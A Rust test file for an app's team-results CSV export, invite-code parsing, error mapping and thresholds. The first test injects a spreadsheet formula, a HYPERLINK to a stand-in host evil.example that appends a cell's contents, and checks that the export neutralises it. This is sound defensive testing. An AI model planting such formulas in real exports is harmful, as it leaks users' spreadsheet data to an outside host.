use super::invites::grouped;
use super::results::results_csv;
use super::*;

/// Whatever text reaches the team CSV (from the server or the framework), no cell starts a formula.
#[test]
fn the_team_csv_runs_no_formula() {
    let hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    let t = TeamResults {
        team_id: "t".into(),
        rounds: vec![RoundResults {
            round_id: hostile.into(),
            number: 1,
            round_label: hostile.into(),
            state: RoundState::Shown,
            label: hostile.into(),
            responses: 5,
            members: 6,
            needed: 5,
            counted: Some(5),
            pillar: None,
            mode: "@mode".into(),
            title: hostile.into(),
            created_at: Some("-2026".into()),
            closed_at: None,
            figures: vec![ResultFigure {
                pillar: "p".into(),
                pillar_name: "\tpillar".into(),
                force: None,
                force_name: Some("\rforce".into()),
                n: 5,
                mean: 50.0,
                band: crate::domain::Band::Mixed,
                sd: 3.0,
                spread: Spread::Close,
                spread_label: String::new(),
                histogram: vec![0, 0, 5, 0, 0],
                mine: None,
            }],
        }],
    };
    let csv = results_csv(&t).unwrap();
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let mut cells = 0;
    for rec in r.records() {
        for cell in rec.unwrap().iter() {
            cells += 1;
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell:?}"
            );
        }
    }
    assert_eq!(cells, 19);
    assert!(csv.contains("'=HYPERLINK"));
}

#[test]
fn a_code_or_its_link_gives_the_same_code() {
    assert_eq!(invite_code_of("abcd-efgh-jklm").unwrap(), "abcdefghjklm");
    assert_eq!(
        invite_code_of(" compilar://join/ABCD-EFGH-JKLM ").unwrap(),
        "ABCDEFGHJKLM"
    );
    assert_eq!(
        invite_code_of("COMPILAR://JOIN/ABCD-EFGH-JKLM").unwrap(),
        "ABCDEFGHJKLM"
    );
    assert_eq!(
        invite_code_of("compilar://join/").unwrap_err().code(),
        "empty_input"
    );
    assert_eq!(invite_code_of(" - ").unwrap_err().code(), "empty_input");
    assert_eq!(
        invite_code_of(&"A".repeat(65)).unwrap_err().code(),
        "payload_too_large"
    );
    let long_link = format!("{INVITE_LINK_PREFIX}{}", "A".repeat(65));
    assert_eq!(
        invite_code_of(&long_link).unwrap_err().code(),
        "payload_too_large"
    );
    // A link to another place is not a link of ours: its letters are not taken for a code.
    assert_eq!(
        invite_code_of("https://example.org/join/ABCD")
            .unwrap_err()
            .code(),
        "invalid_argument"
    );
}

#[test]
fn an_invitation_link_opens_with_its_code_shown_in_groups() {
    assert_eq!(
        invitation_in_link("compilar://join/abcd-efgh-jklm/").unwrap(),
        "ABCD-EFGH-JKLM"
    );
    assert_eq!(
        invitation_in_link("compilar://settings")
            .unwrap_err()
            .code(),
        "invalid_argument"
    );
    assert_eq!(
        invitation_in_link("ABCD-EFGH-JKLM").unwrap_err().code(),
        "invalid_argument"
    );
    assert_eq!(
        invitation_in_link("compilar://join/").unwrap_err().code(),
        "empty_input"
    );
}

#[test]
fn codes_are_shown_in_groups_of_four() {
    assert_eq!(grouped("ABCDEFGHJKLM"), "ABCD-EFGH-JKLM");
    assert_eq!(grouped("ABC"), "ABC");
}

#[test]
fn the_team_functions_refusals_become_typed_errors() {
    let r = |code: &str, msg: &str| refusal(400, &json!({ "code": code, "message": msg }));
    assert_eq!(
        r("P0002", "not a member of this team").map(|e| e.to_string()),
        Some("Not a member of this team.".into())
    );
    assert_eq!(r("42501", "x").map(|e| e.code()), Some("not_facilitator"));
    assert_eq!(
        r("23514", "the last facilitator cannot leave").map(|e| e.code()),
        Some("last_facilitator")
    );
    assert_eq!(r("PT429", "x").map(|e| e.code()), Some("too_many_tries"));
    assert_eq!(r("54000", "x").map(|e| e.code()), Some("team_limit"));
    // Anything else keeps the usual handling (a missing function, a busy server).
    assert!(r("PGRST202", "x").is_none());
    assert!(refusal(503, &json!({})).is_none());
}

#[test]
fn thresholds_below_three_are_refused() {
    assert!(threshold(Some(2)).is_err());
    assert_eq!(threshold(Some(3)).ok(), Some(Some(3)));
    assert_eq!(threshold(None).ok(), Some(None));
}
